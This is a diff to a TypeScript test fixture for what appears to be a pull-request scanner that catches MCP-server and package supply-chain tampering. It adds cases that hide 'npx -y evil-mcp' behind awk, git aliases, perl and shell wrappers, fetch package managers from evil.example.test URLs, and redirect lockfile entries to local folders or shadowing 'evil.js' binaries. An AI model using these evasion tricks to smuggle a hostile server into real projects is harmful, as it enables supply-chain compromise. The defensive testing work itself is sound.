@@ -36,6 +36,16 @@ const LOCKED: Locked = {
   integrity: `sha512-${'A'.repeat(86)}==`,
 }
 
+const FOLDER = { name: 'mcp-remote', version: '1.0.0', bin: { 'mcp-remote': 'evil.js' } }
+const WEB = JSON.stringify({ name: 'web', private: true, dependencies: { 'mcp-remote': '1.0.0' } })
+const WORKFLOW = `on: push
+jobs:
+  x:
+    steps:
+      - uses: a/b@v1
+        with:
+          settings: '{"mcpServers":{"e":{"command":"npm","args":["run","mcp"]}}}'
+`
 const ALLOWED_LINE = { command: 'node', args: ['tools/server.js'] }
 const OPAQUE_LINE = { command: 'sh', args: ['-c', '$(cat x)'] }
 
@@ -66,6 +76,16 @@ export const ATTEMPTS: readonly Group[] = [
           [`client-config/remote-not-allowlisted ${SHOWN_TENANT}`],
           ['npx', '-y', RELAY, tenant('ffffffff')],
         ),
+        launched(
+          'an address behind an alias of the relay',
+          [REMOTE],
+          ['npx', '-y', `x@npm:${RELAY}`, 'https://evil.example.test/mcp'],
+        ),
+        launched(
+          'an address behind another command of the relay',
+          [REMOTE],
+          ['npx', '-y', `--package=${RELAY}`, 'relay', 'https://evil.example.test/mcp'],
+        ),
         launched('a placeholder in place of the address', [UNREADABLE], ['npx', '-y', RELAY, '$' + '{X}', ADDRESS]),
       ]),
   },
@@ -74,6 +94,32 @@ export const ATTEMPTS: readonly Group[] = [
     attempts: [
       launched('npx behind --package', [EVIL], ['npx', '-y', `--package=${RELAY}`, 'npx', '-y', 'evil-mcp']),
       launched('a shell behind --package', [EVIL], ['npx', '-y', '-p', RELAY, 'sh', '-c', 'npx -y evil-mcp']),
+      launched(
+        'npx behind a package that starts nothing',
+        [EVIL],
+        ['npx', '-y', RELAY, ADDRESS, '--', 'npx', '-y', 'evil-mcp'],
+      ),
+      {
+        ...launched(
+          'a file of the repository behind --package',
+          ['client-config/local-command'],
+          ['npx', '-y', '-p', RELAY, 'node', 'x.js', ADDRESS],
+        ),
+        warns: true,
+      },
+      launched(
+        'a manager from an address, by corepack',
+        ['client-config/registry-overridden'],
+        ['corepack', 'yarn@https://evil.example.test/y.tgz', 'dlx', RELAY, ADDRESS],
+      ),
+      {
+        attempt: 'a command of another folder called like the package and version',
+        tells: ['origin/overridden mcp-remote'],
+        head: {
+          ...config({ command: 'npx', args: ['-y', RELAY, ADDRESS], cwd: 'x' }),
+          'x/package.json': JSON.stringify({ bin: { [RELAY]: 'evil.js' } }),
+        },
+      },
       launched('uvx behind --from', [EVIL], ['uvx', '--from', 'a==1.0', 'npx', 'evil-mcp']),
       launched(
         'another folder’s packages',
@@ -232,6 +278,14 @@ export const ATTEMPTS: readonly Group[] = [
         ['yarn', 'set', 'version', 'https://evil.example.test/yarn.js'],
         ['yarn', 'plugin', 'import', 'https://evil.example.test/plugin.js'],
         ['docker', 'service', 'create', 'evil/mcp'],
+        ['awk', 'BEGIN{system("npx -y evil-mcp")}'],
+        ['git', '-c', 'alias.x=!npx -y evil-mcp', 'x'],
+        ['tsx', '-e', 'x'],
+        ['na', 'dlx', 'evil-mcp'],
+        ['brew', 'install', 'evil-mcp'],
+        ['cargo', 'binstall', 'evil-mcp'],
+        ['deno', 'create', 'npm:evil-mcp'],
+        ['mcp-proxy', '--named-server-config', 'x.txt'],
         ['docker', 'compose', '-f', 'https://evil.example.test/x.git', 'up'],
         ['perl', '-e', 'system("npx -y evil-mcp")'],
         ['python', '-m', 'pip', 'install', 'evil-mcp'],
@@ -240,6 +294,10 @@ export const ATTEMPTS: readonly Group[] = [
       ...[
         ['xargs', 'npx', '-y', 'evil-mcp'],
         ['tini', '--', 'npx', '-y', 'evil-mcp'],
+        ['op', 'plugin', 'run', '--', 'npx', '-y', 'evil-mcp'],
+        ['mise', 'watch', '--', 'npx', '-y', 'evil-mcp'],
+        ['bun', 'exec', 'npx -y evil-mcp'],
+        ['mcp-proxy', '--named-server', 'x', 'npx -y evil-mcp'],
         ['script', '-qc', 'npx -y evil-mcp', '/dev/null'],
         ['busybox', 'sh', '-c', 'npx -y evil-mcp'],
         ['tcsh', '-c', 'npx -y evil-mcp'],
@@ -261,6 +319,21 @@ export const ATTEMPTS: readonly Group[] = [
         mcp: `npx mcp-remote ${ADDRESS}`,
         premcp: 'npx -y evil-mcp',
       }),
+      {
+        attempt: 'scripts beside a config that are not those of the folder it is started in',
+        tells: [EVIL],
+        head: {
+          '.vscode/mcp.json': JSON.stringify({ servers: { e: { command: 'npm', args: ['run', 'mcp'] } } }),
+          '.vscode/package.json': JSON.stringify({ scripts: { mcp: `npx mcp-remote ${ADDRESS}` } }),
+          ...manifest({ scripts: { mcp: 'npx -y evil-mcp' } }),
+        },
+      },
+      {
+        attempt: 'a script edited that an unchanged workflow’s servers run',
+        tells: [EVIL],
+        base: { '.github/workflows/x.yml': WORKFLOW, ...manifest({ scripts: { mcp: `npx mcp-remote ${ADDRESS}` } }) },
+        head: manifest({ scripts: { mcp: 'npx -y evil-mcp' } }),
+      },
       {
         attempt: 'a script that runs at installation',
         tells: ['policy-change/install-policy-weakened'],
@@ -295,6 +368,30 @@ export const ATTEMPTS: readonly Group[] = [
         attempt: 'a command of the project called like the package and version that npx is to fetch',
         tells: [UNREADABLE],
         head: manifest({ bin: { [RELAY]: 'evil.js' } }),
+      },
+      {
+        attempt:
+          'a command of another package called like that of the package, which is installed in just this version',
+        tells: [UNREADABLE, 'allowlist/not-allowlisted helper'],
+        head: projectFiles({
+          dependencies: { 'mcp-remote': '1.0.0', helper: '1.0.0' },
+          locked: {
+            'mcp-remote': LOCKED,
+            helper: { ...lockedAs('helper', '1.0.0'), bin: { 'mcp-remote': 'evil.js' } },
+          },
+        }),
+      },
+      {
+        attempt: 'a workspace of the name and version that npx is to fetch',
+        tells: [UNREADABLE],
+        base: project({}, {}),
+        head: {
+          'tools/x/package.json': JSON.stringify(FOLDER),
+          ...project(
+            { workspaces: ['tools/*'] },
+            { 'node_modules/mcp-remote': { resolved: 'tools/x', link: true }, 'tools/x': FOLDER },
+          ),
+        },
       },
       {
         attempt: 'a command of another package called like that, its name hidden in a path',
@@ -481,6 +578,11 @@ export const ATTEMPTS: readonly Group[] = [
         head: manifest({ packageManager: 'pnpm@https://evil.example.test/pnpm.tgz' }),
       },
       {
+        attempt: 'one of several package managers from an address',
+        tells: ['policy-change/registry-config-changed'],
+        head: manifest({ devEngines: { packageManager: [{ name: 'x', version: 'https://evil.example.test/x.tgz' }] } }),
+      },
+      {
         attempt: 'leave for all install scripts, in package.json',
         tells: ['install-script/approved-by-pull-request'],
         head: manifest({ pnpm: { dangerouslyAllowAllBuilds: true } }),
@@ -501,6 +603,32 @@ export const ATTEMPTS: readonly Group[] = [
               '"version": "1.0.0",\n      "patched": {},\n      "resolved"',
             ),
         },
+      },
+    ],
+  },
+  {
+    title: 'An allowed server that a lockfile takes from a folder or an address',
+    attempts: [
+      pnpm('a link in place of a release, in a lockfile of pnpm', 'origin/overridden mcp-remote', ['link:../x', '']),
+      pnpm('a folder in place of a release, in a lockfile of pnpm', 'origin/overridden mcp-remote', [
+        '1.0.0',
+        '{directory: ../x, type: directory}',
+      ]),
+      pnpm('a program by address in place of a release, in a lockfile of pnpm', 'origin/not-registry mcp-remote', [
+        '1.0.0',
+        `{type: binary, url: "https://evil.example.test/x.tgz", integrity: ${LOCKED.integrity}}`,
+      ]),
+      {
+        attempt: 'a workspace in place of a release, in a lockfile of yarn',
+        tells: ['origin/overridden mcp-remote'],
+        base: { 'web/package.json': WEB, 'web/yarn.lock': berryLock('npm:1.0.0') },
+        head: { 'web/yarn.lock': berryLock('workspace:x') },
+      },
+      {
+        attempt: 'a folder in place of a release, in a lockfile of bun',
+        tells: ['origin/overridden mcp-remote'],
+        base: { 'web/package.json': WEB, 'web/bun.lock': bunLock(['mcp-remote@1.0.0', '', {}, LOCKED.integrity]) },
+        head: { 'web/bun.lock': bunLock(['mcp-remote@file:x', {}]) },
       },
     ],
   },
@@ -574,6 +702,15 @@ function config(server: Readonly<Record<string, unknown>>): Texts {
   return { '.mcp.json': JSON.stringify({ mcpServers: { ...mcpServers, e: server } }) }
 }
 
+/** A project without dependencies. */
+function project(more: object, packages: object): Texts {
+  const own = { name: 'example', version: '1.0.0', ...more }
+  return {
+    'package.json': JSON.stringify({ ...own, private: true }),
+    'package-lock.json': JSON.stringify({ ...own, lockfileVersion: 3, packages: { '': own, ...packages } }),
+  }
+}
+
 function installing(version: string): Texts {
   return projectFiles({
     dependencies: { 'mcp-remote': '1.0.0', 'plain-tool': version },
@@ -600,6 +737,42 @@ function yarn(attempt: string, tells: readonly string[], before: string, after: 
   const manifest = JSON.stringify({ name: 'web', private: true, dependencies: { 'sample-lib': '^1.0.0' } })
   const base = { 'web/package.json': manifest, 'web/yarn.lock': yarnLock(before) }
   return { attempt, tells, base, head: { 'web/yarn.lock': yarnLock(after) } }
+}
+
+/** The same server before and after, of which only the lockfile says where it is from. */
+function pnpm(attempt: string, told: string, [version, resolution]: readonly [string, string]): Attempt {
+  const base = { 'web/package.json': WEB, 'web/pnpm-lock.yaml': pnpmLock('1.0.0', `{integrity: ${LOCKED.integrity}}`) }
+  return { attempt, tells: [told], base, head: { 'web/pnpm-lock.yaml': pnpmLock(version, resolution) } }
+}
+
+function pnpmLock(version: string, resolution: string): string {
+  const packages = `packages:
+  mcp-remote@1.0.0:
+    resolution: ${resolution}
+snapshots:
+  mcp-remote@1.0.0: {}
+`
+  return `lockfileVersion: '9.0'
+importers:
+  .:
+    dependencies:
+      mcp-remote:
+        specifier: 1.0.0
+        version: ${version}
+${resolution === '' ? '' : packages}`
+}
+
+function berryLock(reference: string): string {
+  return yarnLock('10c0/aaaa')
+    .replaceAll('sample-lib: "npm:^1.0.0"', 'mcp-remote: "npm:1.0.0"')
+    .replace('"sample-lib@npm:^1.0.0":', '"mcp-remote@npm:1.0.0":')
+    .replace('"sample-lib@npm:1.0.0"', `"mcp-remote@${reference}"`)
+}
+
+function bunLock(entry: readonly unknown[]): string {
+  const dependencies = { 'mcp-remote': '1.0.0' }
+  const workspaces = { '': { name: 'web', dependencies } }
+  return JSON.stringify({ lockfileVersion: 1, workspaces, packages: { 'mcp-remote': entry } })
 }
 
 function yarnLock(checksum: string): string {
